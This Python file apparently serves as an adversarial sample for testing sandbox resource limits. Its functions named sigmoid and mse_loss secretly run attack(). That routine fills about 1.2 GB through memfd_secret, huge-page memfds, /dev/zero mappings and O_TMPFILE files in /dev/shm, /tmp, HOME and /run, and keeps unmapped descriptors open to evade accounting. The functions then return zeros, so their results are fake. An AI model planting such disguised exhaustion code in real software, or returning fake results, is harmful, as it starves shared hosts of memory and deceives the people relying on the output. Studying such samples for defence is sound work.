"""Takes 1.2 GB where nobody looks: secret and huge files in memory, huge pages, O_TMPFILE, and /dev/zero shared.

aims: exhaust
"""

import contextlib
import ctypes
import mmap
import os
import time

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
HELD = []
PART = bytes(2**20)


def secret(size):
    return libc.syscall(447, 0)


def huge(size):
    return libc.memfd_create(b"huge", 4)


def unnamed(folder):
    return lambda size: os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o600)


def zero(size):
    return os.open("/dev/zero", os.O_RDWR)


def sealed(size):
    return os.memfd_create("sealed", os.MFD_ALLOW_SEALING)


def attack():
    end = time.monotonic() + 15
    doors = [secret, huge, zero, sealed, *map(unnamed, ("/dev/shm", "/tmp", os.environ.get("HOME", "."), "/run"))]
    for door in doors:
        with contextlib.suppress(OSError, ValueError, MemoryError):
            file = door(150 * 2**20)
            if file < 0:
                continue
            if door is not zero:
                os.ftruncate(file, 150 * 2**20)
            block = mmap.mmap(file, 150 * 2**20)
            HELD.append((file, block))
            for at in range(0, len(block), len(PART)):
                block[at : at + len(PART)] = PART
    # and what is mapped nowhere any more, but open
    for number, (file, block) in enumerate(HELD):
        if number % 2:
            block.close()
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
